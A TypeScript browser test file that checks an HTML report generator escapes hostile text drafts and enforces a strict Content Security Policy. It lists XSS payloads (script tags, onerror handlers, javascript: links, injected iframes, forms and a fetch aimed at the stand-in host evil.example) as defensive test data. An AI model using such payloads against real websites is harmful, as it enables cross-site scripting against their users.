import type {Page} from 'playwright-core'
import {expect, it} from 'vitest'
import {renderDraft, reportHtml} from '../../src/report/html/index.js'
import {describeInBrowser} from '../browser.js'
import {makeDraft} from './files.js'
import {checkDrafts, openReport} from './pages.js'

declare global {
  var pwned: unknown
}

const pwned = (page: Page) => page.evaluate(() => globalThis.pwned)

const attacks = [
  '<script>pwned = 1</script>',
  '</script><script>pwned = 2</script>',
  '</style><img src="x" onerror="pwned = 3">',
  '<svg onload="pwned = 4"><a href="javascript:pwned = 5">press</a></svg>',
  '[press](javascript:pwned=6)',
  '"><iframe srcdoc="<script>parent.pwned = 7</script>"></iframe>',
  '<base href="https://evil.example/"><form action="https://evil.example/"><button>Go</button></form>',
  '<!-- --><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '&lt;script&gt;pwned = 8&lt;/script&gt;',
  '<style>body{display:none}</style>'
]

/** Control characters, bidi controls, zero-width characters, halves of pairs, noncharacters. */
const hidden =
  '\u0001\u0007\u001B[2J\u007F\u0085\u009B\u00AD\u061C\u200B\u200E\u2028\u202E\u2066\u2069\uFEFF\u{E0041}\uD800\uFFFE'

const story = `The harbour master shut the gate ${attacks.join(' and ')} at noon.\n\nIt${hidden}s keeper left on Monday.\n`

describeInBrowser('the HTML report of a hostile draft', (browser) => {
  it.each(['txt', 'md', 'html'])(
    'shows the markup of a .%s draft and runs none of it',
    async (extension) => {
      const name = `desk/"><script>pwned=9</script>\u202E.${extension}`
      const files = checkDrafts(
        [{path: name, value: story}],
        [{path: `wire/<b>.${extension}`, value: story}]
      )
      const file = files[0]!
      const message = file.message(`Unexpected \`${attacks.join('')}${hidden}\``, {
        place: {start: {line: 1, column: 1, offset: 0}, end: {line: 1, column: 4, offset: 3}},
        ruleId: '"><script>pwned=10</script>'
      })
      message.note = attacks.join(hidden)
      message.expected = attacks
      message.url = 'javascript:pwned=11'
      message.related = [
        {
          path: attacks[1]!,
          place: {start: {line: 1, column: 1, offset: 0}, end: {line: 1, column: 4, offset: 3}},
          text: attacks.join(hidden)
        }
      ]
      const {page, requests, complaints} = await openReport(browser(), files)

      for (const element of await page.locator('a.mark, .finding, .sentence').all())
        await element.dispatchEvent('click')
      expect(await pwned(page)).toBeUndefined()
      expect(requests).toEqual([page.url()])
      expect(complaints).toEqual([])
      const shape = await page.evaluate(() => ({
        scripts: document.scripts.length,
        styles: document.querySelectorAll('style').length,
        strangers: document.querySelectorAll(
          'img, iframe, form, base, object, embed, link, meta[http-equiv="refresh"]'
        ).length,
        handlers: Array.from(document.querySelectorAll('*')).flatMap((element) =>
          element.getAttributeNames().filter((attribute) => /^on|^style$/.test(attribute))
        ),
        links: Array.from(
          document.querySelectorAll('a'),
          (link) => link.getAttribute('href') ?? ''
        ).filter((href) => !href.startsWith('#'))
      }))
      expect(shape).toEqual({scripts: 1, styles: 1, strangers: 0, handlers: [], links: []})

      const text = await page
        .locator('.finding', {hasText: 'pwned=10'})
        .locator('.note')
        .textContent()
      for (const attack of attacks) expect(text).toContain(attack)
      const body = (await page.locator('.draft-text').textContent()) ?? ''
      expect(body).toContain('pwned = 2</script>')
      expect(body).toContain('U+202E')
      const everything = (await page.locator('html').evaluate((html) => html.outerHTML)).replace(
        /[\n\t]/g,
        ''
      )
      expect(/[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029\uFFFE]/u.exec(everything)).toBeNull()
    }
  )

  it.each(['%E0%A4%A', '%', '"><script>pwned=1</script>', 'a%00b'])(
    'shows its draft when the address ends in #%s',
    async (hash) => {
      const {page, complaints} = await openReport(browser(), [makeDraft('a.txt', 'The gate.')])
      await page.evaluate((address) => {
        location.hash = address
        dispatchEvent(new HashChangeEvent('hashchange'))
      }, hash)
      await page.evaluate(() => new Promise(requestAnimationFrame))
      expect(await page.locator('.draft-text').isVisible()).toBe(true)
      expect([complaints, await pwned(page)]).toEqual([[], undefined])
    }
  )

  it('lets no script, handler, style or request run that was put into the page afterwards', async () => {
    const injected = [
      '<script>pwned = 1</script>',
      '<script src="https://evil.example/x.js"></script>',
      '<img src="https://evil.example/x.png" onerror="pwned = 2">',
      '<style>body{opacity:0}</style>',
      '<iframe src="https://evil.example/"></iframe>',
      '<form id="form" action="https://evil.example/"></form>'
    ].join('')
    const {page, complaints} = await openReport(
      browser(),
      [makeDraft('a.txt', 'The gate is shut.')],
      {},
      (html) => html.replace('</body>', `${injected}</body>`)
    )
    const reached: string[] = []
    page.on('requestfinished', (request) => reached.push(request.url()))
    expect(await pwned(page)).toBeUndefined()
    expect(await page.evaluate(() => getComputedStyle(document.body).opacity)).toBe('1')
    const attempts = await page.evaluate(async () => {
      const attempt = async (act: () => unknown) => {
        try {
          await act()
          return 'done'
        } catch {
          return 'refused'
        }
      }
      return [
        await attempt(() => fetch('https://evil.example/')),
        await attempt(() => {
          document.body.innerHTML = '<p>x</p>'
        })
      ]
    })
    expect(attempts).toEqual(['refused', 'refused'])
    for (const directive of ['script-src', 'style-src', 'default-src'])
      expect(complaints.join('\n')).toContain(directive)
    expect(reached).toEqual([])
  })
})

it('has no more than its own two hashes in its policy, and is the same every time', async () => {
  const files = [makeDraft('a.txt', 'The gate is shut.')]
  const html = await reportHtml(files)
  const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/
    .exec(html)?.[1]
    ?.replaceAll('&#x27;', "'")
  expect(policy).toMatch(
    /^default-src 'none'; style-src 'sha256-[\w+/]{43}='; script-src 'sha256-[\w+/]{43}='; base-uri 'none'; form-action 'none'; require-trusted-types-for 'script'$/
  )
  expect(await reportHtml(files)).toBe(html)
})

it('gives one draft as a part of a page, with the id that each finding has in it', () => {
  const [file] = checkDrafts([
    {path: 'a.txt', value: `Share this article\n\n${attacks.join('\n\n')}`}
  ])
  const {html, findings} = renderDraft(file!)
  expect(html).toMatch(/^<section class="draft" id="d1">/)
  expect(html).not.toMatch(/<(?:script|style|img|iframe|base|form|meta)\b/)
  expect(findings.map(({message}) => message)).toEqual(file!.messages)
  for (const {id} of findings) expect(html).toContain(`id="${id}"`)
  expect(findings.length).toBeGreaterThan(0)
})
